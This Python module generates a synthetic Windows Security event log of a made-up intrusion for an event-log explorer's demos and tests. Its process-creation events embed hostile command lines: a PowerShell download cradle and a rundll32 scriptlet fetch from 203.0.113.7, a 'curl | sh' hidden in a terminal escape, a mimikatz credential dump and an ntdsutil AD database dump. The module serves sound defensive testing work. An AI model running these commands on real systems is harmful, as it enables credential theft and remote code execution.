"""The demo log: a small, made-up intrusion told in Security events, and where it lives.

(About 510 lines: the story is one table of events, read top to bottom as the intrusion unfolds;
split, its steps would be read out of order.)

It is generated, not shipped: `demo_log()` writes it under the user data dir on first use (and
rewrites it when this generator changes), so `evtx-explorer demo` works from an installed package
as well as from a checkout. `demo/make_demo.py` writes the same text to the committed
`demo/intrusion.xml`, which tests and screenshots use.

The file is an Event Viewer "Save as XML" export (`<Events>` root, one `<Event>` per line with
its `<RenderingInfo>`), written by this module and nothing else: no third-party log is copied.
The output is deterministic (no randomness, no clock): run `python demo/make_demo.py` and the
committed file must not change. Tests (loader, correlation, UI) assert against the story below,
so change it only together with them.

Hosts and accounts (domain CONTOSO, SID prefix S-1-5-21-3623811015-3361044348-30300820):
alice (-1106, local admin with UAC), adm-bob (-1112, domain admin), svc-backup (-1120).
The file holds WS01's events, then DC01's (a concatenated export, so it is not in time order
across hosts); EventRecordIDs increase through the file (WS01 from 48211, DC01 from 913374).
Security events carry Execution ProcessID 0x2a8 (lsass) for logons, 0x4 for process and
object events, as on real hosts.

WS01.contoso.local, 2024-03-14 (UTC)
- Pre-existing processes (no 4688 in the log): System 0x4, winlogon.exe 0x25c (session 1) and
  0x1a0c (session 2), lsass.exe 0x2a8, svchost.exe 0x3b4, SearchIndexer.exe 0x9c4.
- Still running at the end of the log (no 4689): explorer.exe 0x1b58, OUTLOOK.EXE 0x2470.
- 08:01:12 alice logs on interactively (4624 type 2): elevated session 0x5a3c1 (4672) linked
  to the limited session 0x5a3e7. winlogon 0x25c -> userinit.exe 0x1e0c -> explorer.exe 0x1b58
  (userinit exits 08:01:44). taskhostw.exe 0x1d30 (svchost 0x3b4), OUTLOOK.EXE 0x2470 and
  msedge.exe 0x25f8 (child of OUTLOOK) are the benign background.
- 08:14:03 the phishing shortcut: explorer 0x1b58 -> cmd.exe 0x2f4c -> powershell.exe 0x3a10
  (encoded download cradle) -> dropper C:\\Users\\alice\\AppData\\Local\\Temp\\wupdsvc.exe 0x1c64.
  All %%1938 (limited token), S-1-16-8192. cmd 0x2f4c exits 08:14:10.
- 08:15:30 powershell 0x3a10 -> rundll32.exe 0x2d18 with a `javascript:` mshtml command line.
- 08:16:02 powershell 0x3a10 -> cmd.exe 0x2e8c whose CommandLine is HOSTILE terminal content:
  Rich markup `[red]x[/red]` and `[bold]`, ANSI `ESC[31m` / `ESC[0m`, an OSC 52 clipboard write
  `ESC]52;c;<base64>BEL` and an 8-bit CSI `\\x9b2J`. ESC and BEL are written as `&#x1b;` and
  `&#x7;`: XML 1.0 forbids them even as references, lxml refuses them, and our Event XML loader
  recovers them (see `parsers.eventxml`), so the loaded value holds the real ESC/BEL characters.
  `&#x9b;` is legal XML and loads as U+009B.
- 08:17:19 consent.exe 0x2154 (UAC prompt, SYSTEM, %%1936, S-1-16-16384) then 08:17:20 the
  dropper 0x1c64 -> mk64.exe 0x1f40 (mimikatz-style, `sekurlsa::logonpasswords`), elevated:
  %%1937, S-1-16-12288, SubjectLogonId 0x5a3c1.
- Handles of mk64.exe 0x1f40 on lsass.exe 0x2a8 (Task 12802, ObjectType Process):
  H1: 08:17:21.2031250 4656 HandleId 0x2c4 (AccessMask 0x1010), 4663 (0x10), then 4690
  duplicates 0x2c4 into System 0x4 as TargetHandleId 0x1a8c; the 4658 closing 0x1a8c carries
  ProcessId 0x1f40 (the SOURCE pid, the real-log quirk); 4658 closes 0x2c4 at 08:17:21.2250000.
  H2: handle value 0x2c4 REUSED. The 4690 (0x2c4 -> 0x1b04 in 0x4) is logged at 08:17:23.5000000,
  BEFORE its 4656 at 08:17:23.5000200 (quirk); 4658 of 0x1b04 again carries ProcessId 0x1f40;
  4663, then 4658 closes 0x2c4 at 08:17:23.6000000. mk64 exits (4689) at 08:17:24.
- 08:19:05 PID 0x1f40 REUSED by an unrelated process: SearchIndexer 0x9c4 ->
  SearchProtocolHost.exe 0x1f40 (SYSTEM, %%1936, S-1-16-16384), which opens handle 0x2c4 (a third
  use of the value) on C:\\Users\\alice\\Documents\\Q1-budget.xlsx (Task 12800, File), closes it,
  and exits at 08:19:40.
- 08:20:10 dropper 0x1c64 -> psx.exe 0x2b30 (PsExec to DC01 as adm-bob); psx exits 08:27:55,
  the dropper 08:28:00, powershell 0x3a10 08:28:01.
- 08:25:00 svc-backup network logon (4624 type 3, 0x8a1f00) from 10.0.10.5, logoff 08:25:02.
- 08:30:12 adm-bob RDP logon (4624 type 10) from 10.0.10.55: elevated 0x7d2e11 (4672) linked to
  0x7d2df0; winlogon 0x1a0c (session 2, pre-existing) -> userinit.exe 0x2664 -> explorer.exe 0x2c90;
  rdpclip.exe 0x2a0c (svchost 0x3b4); explorer 0x2c90 -> cmd.exe 0x3128 run as administrator
  (%%1937, S-1-16-12288) -> whoami.exe 0x1e0c (alice's userinit pid, REUSED); all of bob's
  processes exit; 4634 logoffs of 0x7d2e11 and 0x7d2df0 at 08:41:07.
- alice never logs off: her sessions 0x5a3c1/0x5a3e7 run to the end of the log.

DC01.contoso.local (PID values deliberately shared with WS01: scope by computer!)
- Pre-existing: services.exe 0x26c, lsass.exe 0x2a8.
- 08:20:12 adm-bob network logon from WS01 (4624 type 3, NTLM, 0x9f1b2c) with 4672.
- services.exe 0x26c -> PSEXESVC.exe 0x1b58 -> cmd.exe 0x2f4c -> ntdsutil.exe 0x3a10 (IFM dump of
  the AD database), all SYSTEM %%1936 S-1-16-16384. ntdsutil 0x3a10 opens handle 0x2c4 on
  C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit (4656/4663/4658, Task 12800). Exits 08:27:40
  to 08:27:52; 4634 logoff of 0x9f1b2c at 08:27:53.

`EXPECTED_COUNTS` below is the number of events per EventID the file must load with.
"""

from __future__ import annotations

import argparse
import base64
import os
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

WS01 = "WS01.contoso.local"
DC01 = "DC01.contoso.local"
DAY = "2024-03-14"
DOMAIN_SID = "S-1-5-21-3623811015-3361044348-30300820"
PROVIDER = "Microsoft-Windows-Security-Auditing"
PROVIDER_GUID = "{54849625-5478-4994-a5ba-3e3b0328c30d}"
NS = "http://schemas.microsoft.com/win/2004/08/events/event"
FIRST_RECORD = {WS01: 48211, DC01: 913374}

ALICE = (f"{DOMAIN_SID}-1106", "alice", "CONTOSO")
BOB = (f"{DOMAIN_SID}-1112", "adm-bob", "CONTOSO")
BACKUP = (f"{DOMAIN_SID}-1120", "svc-backup", "CONTOSO")
NOBODY = ("S-1-0-0", "-", "-")

TEMP = "C:\\Users\\alice\\AppData\\Local\\Temp"
SYS32 = "C:\\Windows\\System32"
LSASS_OBJECT = "\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe"
MK64 = f"{TEMP}\\mk64.exe"
ESC, BEL = "\x1b", "\x07"
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')"
HOSTILE_CMD = (
    "cmd.exe /c echo [red]x[/red] " + ESC + "[31mRED" + ESC + "[0m "
    + ESC + "]52;c;" + base64.b64encode(b"curl -s http://203.0.113.7/x | sh").decode() + BEL
    + " [bold]done[/bold] \x9b2J"
)  # fmt: skip

#: (EventID -> (Task, Version, task name, message)) as the Security log renders them.
KINDS: dict[int, tuple[int, int, str, str]] = {
    4624: (12544, 2, "Logon", "An account was successfully logged on."),
    4634: (12545, 0, "Logoff", "An account was logged off."),
    4672: (12548, 0, "Special Logon", "Special privileges assigned to new logon."),
    4688: (13312, 2, "Process Creation", "A new process has been created."),
    4689: (13313, 0, "Process Termination", "A process has exited."),
    4656: (12802, 1, "Kernel Object", "A handle to an object was requested."),
    4663: (12802, 1, "Kernel Object", "An attempt was made to access an object."),
    4658: (12802, 0, "Kernel Object", "The handle to an object was closed."),
    4690: (12807, 0, "Handle Manipulation", "An attempt was made to duplicate a handle to an object."),
}

#: Events per EventID in the demo (the loader must find exactly these).
EXPECTED_COUNTS = {
    4624: 6, 4634: 4, 4672: 3, 4688: 22, 4689: 20, 4656: 4, 4663: 4, 4658: 6, 4690: 2,
}  # fmt: skip


@dataclass
class Ev:
    """One event to write: where, when (HH:MM:SS.fffffff), what, and its EventData."""

    host: str
    time: str
    event_id: int
    data: list[tuple[str, str]]
    exec_pid: int = 4
    thread: int = 0
    task: int | None = None
    record_id: int = field(default=0)


def system_subject(host: str) -> tuple[str, str, str, str]:
    """SYSTEM as the subject: the machine account, logon 0x3e7."""
    return ("S-1-5-18", f"{host.split('.')[0]}$", "CONTOSO", "0x3e7")


def subject(who: tuple[str, str, str], logon: str) -> list[tuple[str, str]]:
    sid, name, dom = who
    return [("SubjectUserSid", sid), ("SubjectUserName", name), ("SubjectDomainName", dom), ("SubjectLogonId", logon)]


def sys_subject(host: str) -> list[tuple[str, str]]:
    sid, name, dom, logon = system_subject(host)
    return subject((sid, name, dom), logon)


def logon(
    host: str, time: str, who: tuple[str, str, str], logon_id: str, logon_type: int, *,
    linked: str, elevated: bool, ip: str, workstation: str, process: tuple[str, str], ntlm: bool = False,
) -> Ev:  # fmt: skip
    sid, name, dom = who
    auth = ("NtLmSsp ", "NTLM", "NTLM V2", "128") if ntlm else ("User32 ", "Negotiate", "-", "0")
    return Ev(host, time, 4624, [
        *sys_subject(host), ("TargetUserSid", sid), ("TargetUserName", name), ("TargetDomainName", dom),
        ("TargetLogonId", logon_id), ("LogonType", str(logon_type)), ("LogonProcessName", auth[0]),
        ("AuthenticationPackageName", auth[1]), ("WorkstationName", workstation),
        ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"), ("TransmittedServices", "-"),
        ("LmPackageName", auth[2]), ("KeyLength", auth[3]), ("ProcessId", process[0]), ("ProcessName", process[1]),
        ("IpAddress", ip), ("IpPort", "0" if ip in ("-", "127.0.0.1") else "49823"), ("ImpersonationLevel", "%%1833"),
        ("RestrictedAdminMode", "-"), ("TargetOutboundUserName", "-"), ("TargetOutboundDomainName", "-"),
        ("VirtualAccount", "%%1843"), ("TargetLinkedLogonId", linked),
        ("ElevatedToken", "%%1842" if elevated else "%%1843"),
    ], exec_pid=0x2A8, thread=0x2F0)  # fmt: skip


PRIVILEGES = "\n\t\t\t".join(
    ["SeSecurityPrivilege", "SeBackupPrivilege", "SeRestorePrivilege", "SeTakeOwnershipPrivilege",
     "SeDebugPrivilege", "SeSystemEnvironmentPrivilege", "SeLoadDriverPrivilege", "SeImpersonatePrivilege"]
)  # fmt: skip


def special(host: str, time: str, who: tuple[str, str, str], logon_id: str) -> Ev:
    return Ev(host, time, 4672, [*subject(who, logon_id), ("PrivilegeList", PRIVILEGES)], exec_pid=0x2A8, thread=0x2F0)


def logoff(host: str, time: str, who: tuple[str, str, str], logon_id: str, logon_type: int) -> Ev:
    sid, name, dom = who
    return Ev(host, time, 4634, [
        ("TargetUserSid", sid), ("TargetUserName", name), ("TargetDomainName", dom),
        ("TargetLogonId", logon_id), ("LogonType", str(logon_type)),
    ], exec_pid=0x2A8, thread=0x2F4)  # fmt: skip


def proc(
    host: str, time: str, subj: list[tuple[str, str]], new_pid: int, image: str, parent_pid: int, parent: str,
    cmd: str, *, elevation: str = "%%1938", label: str = "S-1-16-8192",
    target: tuple[str, str, str] = NOBODY, target_logon: str = "0x0",
) -> Ev:  # fmt: skip
    return Ev(host, time, 4688, [
        *subj, ("NewProcessId", hex(new_pid)), ("NewProcessName", image), ("TokenElevationType", elevation),
        ("ProcessId", hex(parent_pid)), ("CommandLine", cmd), ("TargetUserSid", target[0]),
        ("TargetUserName", target[1]), ("TargetDomainName", target[2]), ("TargetLogonId", target_logon),
        ("ParentProcessName", parent), ("MandatoryLabel", label),
    ], thread=0x1A4)  # fmt: skip


def exit_(host: str, time: str, subj: list[tuple[str, str]], pid: int, image: str) -> Ev:
    return Ev(host, time, 4689, [*subj, ("Status", "0x0"), ("ProcessId", hex(pid)), ("ProcessName", image)],
              thread=0x1A4)  # fmt: skip


def h_open(
    host: str, time: str, subj: list[tuple[str, str]], handle: int, pid: int, image: str, *,
    obj_type: str, obj_name: str, mask: str, access: str, task: int,
) -> Ev:  # fmt: skip
    return Ev(host, time, 4656, [
        *subj, ("ObjectServer", "Security"), ("ObjectType", obj_type), ("ObjectName", obj_name),
        ("HandleId", hex(handle)), ("TransactionId", "{00000000-0000-0000-0000-000000000000}"),
        ("AccessList", access), ("AccessReason", "-"), ("AccessMask", mask), ("PrivilegeList", "-"),
        ("RestrictedSidCount", "0"), ("ProcessId", hex(pid)), ("ProcessName", image), ("ResourceAttributes", "-"),
    ], thread=0x1C8, task=task)  # fmt: skip


def h_access(
    host: str, time: str, subj: list[tuple[str, str]], handle: int, pid: int, image: str, *,
    obj_type: str, obj_name: str, mask: str, access: str, task: int,
) -> Ev:  # fmt: skip
    return Ev(host, time, 4663, [
        *subj, ("ObjectServer", "Security"), ("ObjectType", obj_type), ("ObjectName", obj_name),
        ("HandleId", hex(handle)), ("AccessList", access), ("AccessMask", mask), ("ProcessId", hex(pid)),
        ("ProcessName", image), ("ResourceAttributes", "-"),
    ], thread=0x1C8, task=task)  # fmt: skip


def h_close(host: str, time: str, subj: list[tuple[str, str]], handle: int, pid: int, image: str, task: int) -> Ev:
    return Ev(host, time, 4658, [
        *subj, ("ObjectServer", "Security"), ("HandleId", hex(handle)), ("ProcessId", hex(pid)), ("ProcessName", image),
    ], thread=0x1C8, task=task)  # fmt: skip


def dup(host: str, time: str, subj: list[tuple[str, str]], src_handle: int, src_pid: int, dst_handle: int,
        dst_pid: int) -> Ev:  # fmt: skip
    return Ev(host, time, 4690, [
        *subj, ("SourceHandleId", hex(src_handle)), ("SourceProcessId", hex(src_pid)),
        ("TargetHandleId", hex(dst_handle)), ("TargetProcessId", hex(dst_pid)),
    ], thread=0x1C8)  # fmt: skip


def ws01_story() -> list[Ev]:
    h = WS01
    sysj = sys_subject(h)
    alice_lim = subject(ALICE, "0x5a3e7")
    alice_elev = subject(ALICE, "0x5a3c1")
    bob_lim = subject(BOB, "0x7d2df0")
    bob_elev = subject(BOB, "0x7d2e11")
    winlogon = f"{SYS32}\\winlogon.exe"
    userinit = f"{SYS32}\\userinit.exe"
    explorer = "C:\\Windows\\explorer.exe"
    svchost = f"{SYS32}\\svchost.exe"
    cmd = f"{SYS32}\\cmd.exe"
    psh = f"{SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe"
    dropper = f"{TEMP}\\wupdsvc.exe"
    outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    edge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
    rundll = f"{SYS32}\\rundll32.exe"
    sph = f"{SYS32}\\SearchProtocolHost.exe"
    indexer = f"{SYS32}\\SearchIndexer.exe"
    psx = f"{TEMP}\\psx.exe"
    budget = "C:\\Users\\alice\\Documents\\Q1-budget.xlsx"
    enc = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
    k = 12802  # Kernel Object
    f = 12800  # File System
    return [
        logon(h, "08:01:12.1000000", ALICE, "0x5a3c1", 2, linked="0x5a3e7", elevated=True, ip="127.0.0.1",
              workstation="WS01", process=("0x25c", winlogon)),
        logon(h, "08:01:12.1000000", ALICE, "0x5a3e7", 2, linked="0x5a3c1", elevated=False, ip="127.0.0.1",
              workstation="WS01", process=("0x25c", winlogon)),
        special(h, "08:01:12.1000000", ALICE, "0x5a3c1"),
        proc(h, "08:01:13.0312500", sysj, 0x1E0C, userinit, 0x25C, winlogon, f"{userinit}",
             target=ALICE, target_logon="0x5a3e7"),
        proc(h, "08:01:14.2500000", alice_lim, 0x1B58, explorer, 0x1E0C, userinit, explorer),
        exit_(h, "08:01:44.5000000", alice_lim, 0x1E0C, userinit),
        proc(h, "08:03:02.7500000", sysj, 0x1D30, f"{SYS32}\\taskhostw.exe", 0x3B4, svchost,
             "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", target=ALICE, target_logon="0x5a3e7"),
        proc(h, "08:05:40.1250000", alice_lim, 0x2470, outlook, 0x1B58, explorer, f'"{outlook}" '),
        proc(h, "08:10:21.6250000", alice_lim, 0x25F8, edge, 0x2470, outlook,
             f'"{edge}" --single-argument https://contoso-invoices.example/Invoice_2024-0314.zip'),
        exit_(h, "08:12:58.0000000", sysj, 0x1D30, f"{SYS32}\\taskhostw.exe"),
        exit_(h, "08:13:40.3750000", alice_lim, 0x25F8, edge),
        proc(h, "08:14:03.4062500", alice_lim, 0x2F4C, cmd, 0x1B58, explorer,
             f'"{cmd}" /c powershell -nop -w hidden -ep bypass -enc {enc}'),
        proc(h, "08:14:04.0156250", alice_lim, 0x3A10, psh, 0x2F4C, cmd,
             f"powershell  -nop -w hidden -ep bypass -enc {enc}"),
        proc(h, "08:14:09.8437500", alice_lim, 0x1C64, dropper, 0x3A10, psh, f'"{dropper}" -install'),
        exit_(h, "08:14:10.0000000", alice_lim, 0x2F4C, cmd),
        proc(h, "08:15:30.2968750", alice_lim, 0x2D18, rundll, 0x3A10, psh,
             'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
             'GetObject("script:http://203.0.113.7/s.sct")'),
        exit_(h, "08:15:33.1093750", alice_lim, 0x2D18, rundll),
        proc(h, "08:16:02.5000000", alice_lim, 0x2E8C, cmd, 0x3A10, psh, HOSTILE_CMD),
        exit_(h, "08:16:02.5625000", alice_lim, 0x2E8C, cmd),
        proc(h, "08:17:19.0000000", sysj, 0x2154, f"{SYS32}\\consent.exe", 0x3B4, svchost,
             "consent.exe 948 288 000001C6F1A3B2C0", elevation="%%1936", label="S-1-16-16384",
             target=ALICE, target_logon="0x5a3e7"),
        exit_(h, "08:17:20.1000000", sysj, 0x2154, f"{SYS32}\\consent.exe"),
        proc(h, "08:17:20.2500000", alice_elev, 0x1F40, MK64, 0x1C64, dropper,
             'mk64.exe "privilege::debug" "sekurlsa::logonpasswords" "exit"', elevation="%%1937",
             label="S-1-16-12288"),
        # H1: open, use, duplicate into System, the duplicate's close (source pid!), close.
        h_open(h, "08:17:21.2031250", alice_elev, 0x2C4, 0x1F40, MK64, mask="0x1010",
               access="%%4484\n\t\t\t\t%%4492\n\t\t\t\t", obj_type="Process", obj_name=LSASS_OBJECT, task=k),
        h_access(h, "08:17:21.2032000", alice_elev, 0x2C4, 0x1F40, MK64, mask="0x10",
                 access="%%4484\n\t\t\t\t", obj_type="Process", obj_name=LSASS_OBJECT, task=k),
        dup(h, "08:17:21.2100000", alice_elev, 0x2C4, 0x1F40, 0x1A8C, 0x4),
        h_close(h, "08:17:21.2100400", alice_elev, 0x1A8C, 0x1F40, MK64, k),
        h_close(h, "08:17:21.2250000", alice_elev, 0x2C4, 0x1F40, MK64, k),
        # H2: same handle value 0x2c4 again; the 4690 is logged before its 4656.
        dup(h, "08:17:23.5000000", alice_elev, 0x2C4, 0x1F40, 0x1B04, 0x4),
        h_close(h, "08:17:23.5000100", alice_elev, 0x1B04, 0x1F40, MK64, k),
        h_open(h, "08:17:23.5000200", alice_elev, 0x2C4, 0x1F40, MK64, mask="0x1410",
               access="%%4484\n\t\t\t\t%%4490\n\t\t\t\t%%4492\n\t\t\t\t",
               obj_type="Process", obj_name=LSASS_OBJECT, task=k),
        h_access(h, "08:17:23.5001000", alice_elev, 0x2C4, 0x1F40, MK64, mask="0x10",
                 access="%%4484\n\t\t\t\t", obj_type="Process", obj_name=LSASS_OBJECT, task=k),
        h_close(h, "08:17:23.6000000", alice_elev, 0x2C4, 0x1F40, MK64, k),
        exit_(h, "08:17:24.0000000", alice_elev, 0x1F40, MK64),
        # PID 0x1f40 reused by an unrelated SYSTEM process, which reuses handle value 0x2c4 too.
        proc(h, "08:19:05.7500000", sysj, 0x1F40, sph, 0x9C4, indexer,
             f'"{sph}" Global\\UsGthrFltPipeMssGthrPipe5_ Global\\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646',
             elevation="%%1936", label="S-1-16-16384"),
        h_open(h, "08:19:06.0000000", sysj, 0x2C4, 0x1F40, sph, obj_type="File", obj_name=budget, mask="0x1",
               access="%%4416\n\t\t\t\t", task=f),
        h_access(h, "08:19:06.0001000", sysj, 0x2C4, 0x1F40, sph, obj_type="File", obj_name=budget, mask="0x1",
                 access="%%4416\n\t\t\t\t", task=f),
        h_close(h, "08:19:06.1000000", sysj, 0x2C4, 0x1F40, sph, f),
        exit_(h, "08:19:40.0000000", sysj, 0x1F40, sph),
        proc(h, "08:20:10.5000000", alice_lim, 0x2B30, psx, 0x1C64, dropper,
             'psx.exe \\\\DC01.contoso.local -accepteula -u CONTOSO\\adm-bob -p ******** -s cmd.exe /c '
             '"ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\ifm\\" q q"'),
        logon(h, "08:25:00.0000000", BACKUP, "0x8a1f00", 3, linked="0x0", elevated=True, ip="10.0.10.5",
              workstation="BACKUP01", process=("0x0", "-"), ntlm=True),
        logoff(h, "08:25:02.0000000", BACKUP, "0x8a1f00", 3),
        exit_(h, "08:27:55.0000000", alice_lim, 0x2B30, psx),
        exit_(h, "08:28:00.0000000", alice_lim, 0x1C64, dropper),
        exit_(h, "08:28:01.0000000", alice_lim, 0x3A10, psh),
        logon(h, "08:30:12.0000000", BOB, "0x7d2e11", 10, linked="0x7d2df0", elevated=True, ip="10.0.10.55",
              workstation="WS01", process=("0x1a0c", winlogon)),
        logon(h, "08:30:12.0000000", BOB, "0x7d2df0", 10, linked="0x7d2e11", elevated=False, ip="10.0.10.55",
              workstation="WS01", process=("0x1a0c", winlogon)),
        special(h, "08:30:12.0000000", BOB, "0x7d2e11"),
        proc(h, "08:30:13.0000000", sysj, 0x2664, userinit, 0x1A0C, winlogon, userinit,
             target=BOB, target_logon="0x7d2df0"),
        proc(h, "08:30:13.5000000", bob_lim, 0x2C90, explorer, 0x2664, userinit, explorer),
        proc(h, "08:30:14.0000000", sysj, 0x2A0C, f"{SYS32}\\rdpclip.exe", 0x3B4, svchost, "rdpclip",
             target=BOB, target_logon="0x7d2df0"),
        exit_(h, "08:30:43.0000000", bob_lim, 0x2664, userinit),
        proc(h, "08:31:00.0000000", bob_elev, 0x3128, cmd, 0x2C90, explorer, f'"{cmd}" ',
             elevation="%%1937", label="S-1-16-12288"),
        proc(h, "08:31:07.0000000", bob_elev, 0x1E0C, f"{SYS32}\\whoami.exe", 0x3128, cmd, "whoami  /all",
             elevation="%%1937", label="S-1-16-12288"),
        exit_(h, "08:31:07.2000000", bob_elev, 0x1E0C, f"{SYS32}\\whoami.exe"),
        exit_(h, "08:40:58.0000000", bob_elev, 0x3128, cmd),
        exit_(h, "08:41:06.0000000", bob_lim, 0x2A0C, f"{SYS32}\\rdpclip.exe"),
        exit_(h, "08:41:06.5000000", bob_lim, 0x2C90, explorer),
        logoff(h, "08:41:07.0000000", BOB, "0x7d2e11", 10),
        logoff(h, "08:41:07.0000000", BOB, "0x7d2df0", 10),
    ]  # fmt: skip


def dc01_story() -> list[Ev]:
    h = DC01
    sysj = sys_subject(h)
    services = f"{SYS32}\\services.exe"
    psexesvc = "C:\\Windows\\PSEXESVC.exe"
    cmd = f"{SYS32}\\cmd.exe"
    ntdsutil = f"{SYS32}\\ntdsutil.exe"
    ntds = "C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit"
    return [
        logon(h, "08:20:12.0000000", BOB, "0x9f1b2c", 3, linked="0x0", elevated=True, ip="10.0.10.21",
              workstation="WS01", process=("0x0", "-"), ntlm=True),
        special(h, "08:20:12.0000000", BOB, "0x9f1b2c"),
        proc(h, "08:20:13.0000000", sysj, 0x1B58, psexesvc, 0x26C, services, psexesvc,
             elevation="%%1936", label="S-1-16-16384"),
        proc(h, "08:20:14.0000000", sysj, 0x2F4C, cmd, 0x1B58, psexesvc,
             'cmd.exe /c "ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\ifm" q q"',
             elevation="%%1936", label="S-1-16-16384"),
        proc(h, "08:20:30.0000000", sysj, 0x3A10, ntdsutil, 0x2F4C, cmd,
             'ntdsutil  "ac i ntds" ifm "create full C:\\Windows\\Temp\\ifm" q q',
             elevation="%%1936", label="S-1-16-16384"),
        h_open(h, "08:20:31.0000000", sysj, 0x2C4, 0x3A10, ntdsutil, obj_type="File", obj_name=ntds, mask="0x2",
               access="%%4417\n\t\t\t\t", task=12800),
        h_access(h, "08:20:31.0001000", sysj, 0x2C4, 0x3A10, ntdsutil, obj_type="File", obj_name=ntds, mask="0x2",
                 access="%%4417\n\t\t\t\t", task=12800),
        h_close(h, "08:27:39.0000000", sysj, 0x2C4, 0x3A10, ntdsutil, 12800),
        exit_(h, "08:27:40.0000000", sysj, 0x3A10, ntdsutil),
        exit_(h, "08:27:41.0000000", sysj, 0x2F4C, cmd),
        exit_(h, "08:27:52.0000000", sysj, 0x1B58, psexesvc),
        logoff(h, "08:27:53.0000000", BOB, "0x9f1b2c", 3),
    ]  # fmt: skip


def story() -> list[Ev]:
    """Every event in file order, with record ids assigned (increasing through the file)."""
    events: list[Ev] = []
    for host, block in ((WS01, ws01_story()), (DC01, dc01_story())):
        last = ""
        for number, ev in enumerate(block, FIRST_RECORD[host]):
            if ev.time < last:
                raise AssertionError(f"{host} events out of time order at {ev.time}")
            last = ev.time
            ev.record_id = number
            events.append(ev)
    return events


_XML_ESCAPES = {"&": "&amp;", "<": "&lt;", ">": "&gt;", "'": "&apos;", '"': "&quot;"}


def esc(text: str) -> str:
    """Escape for XML text and single-quoted attributes; control characters (C0 except tab and
    newline, and C1) become character references, which is what we want a reader to cope with."""
    out = []
    for ch in text:
        code = ord(ch)
        if ch in _XML_ESCAPES:
            out.append(_XML_ESCAPES[ch])
        elif (code < 0x20 and ch not in "\t\n") or 0x7F <= code <= 0x9F:
            out.append(f"&#x{code:x};")
        else:
            out.append(ch)
    return "".join(out)


def render_event(ev: Ev) -> str:
    task, version, task_name, message = KINDS[ev.event_id]
    if ev.task is not None:
        task = ev.task
        task_name = {12800: "File System", 12802: "Kernel Object"}[task]
    data = "".join(f"<Data Name='{esc(k)}'>{esc(v)}</Data>" for k, v in ev.data)
    return (
        f"<Event xmlns='{NS}'><System><Provider Name='{PROVIDER}' Guid='{PROVIDER_GUID}'/>"
        f"<EventID>{ev.event_id}</EventID><Version>{version}</Version><Level>0</Level><Task>{task}</Task>"
        f"<Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords>"
        f"<TimeCreated SystemTime='{DAY}T{ev.time}Z'/><EventRecordID>{ev.record_id}</EventRecordID>"
        f"<Correlation/><Execution ProcessID='{ev.exec_pid}' ThreadID='{ev.thread}'/><Channel>Security</Channel>"
        f"<Computer>{ev.host}</Computer><Security/></System><EventData>{data}</EventData>"
        f"<RenderingInfo Culture='en-US'><Message>{esc(message)}</Message><Level>Information</Level>"
        f"<Task>{task_name}</Task><Opcode>Info</Opcode><Channel>Security</Channel>"
        f"<Provider>Microsoft Windows security auditing.</Provider>"
        f"<Keywords><Keyword>Audit Success</Keyword></Keywords></RenderingInfo></Event>"
    )


def render() -> str:
    """The whole file, as Event Viewer's "Save as XML" lays it out (one event per line)."""
    lines: Iterator[str] = (render_event(ev) for ev in story())
    return '<?xml version="1.0" encoding="utf-8" standalone="yes"?>\n<Events>\n' + "\n".join(lines) + "\n</Events>\n"


#: The demo log's file name under the user data dir (`demo/` there).
DEMO_NAME = "intrusion.xml"


def demo_log() -> Path:
    """The demo log's path, written (atomically) under the user data dir when it is missing or
    differs from what this generator writes; `EVTX_EXPLORER_DATA_DIR` overrides the dir."""
    from core.report.case import data_dir

    text = render()
    try:
        return _written(data_dir() / "demo" / DEMO_NAME, text)
    except OSError:  # a data dir that cannot be written (a read-only home): the temp dir, per user
        return _written(Path(tempfile.gettempdir()) / f"evtx-explorer-demo-{os.getuid()}" / DEMO_NAME, text)


def _written(path: Path, text: str) -> Path:
    """`path` holding `text`, written atomically unless it already does."""
    try:
        if path.read_text(encoding="utf-8") == text:
            return path
    except (OSError, UnicodeDecodeError):
        pass
    path.parent.mkdir(parents=True, exist_ok=True)
    fd, tmp = tempfile.mkstemp(prefix=f".{DEMO_NAME}.", suffix=".part", dir=path.parent)
    try:
        with os.fdopen(fd, "w", encoding="utf-8", newline="\n") as fh:
            fh.write(text)
        os.replace(tmp, path)
    finally:
        Path(tmp).unlink(missing_ok=True)
    return path


def main(argv: list[str] | None = None, default: Path | None = None) -> int:
    """`demo/make_demo.py [-o PATH]`: write the demo log (default: `default`, the checkout's
    `demo/intrusion.xml`)."""
    parser = argparse.ArgumentParser(description="Write the evtx-explorer demo log (deterministic).")
    parser.add_argument("-o", "--output", type=Path, default=default)
    args = parser.parse_args(argv)
    if args.output is None:
        parser.error("--output is required")
    args.output.write_text(render(), encoding="utf-8", newline="\n")
    print(f"wrote {args.output} ({len(story())} events)")
    return 0
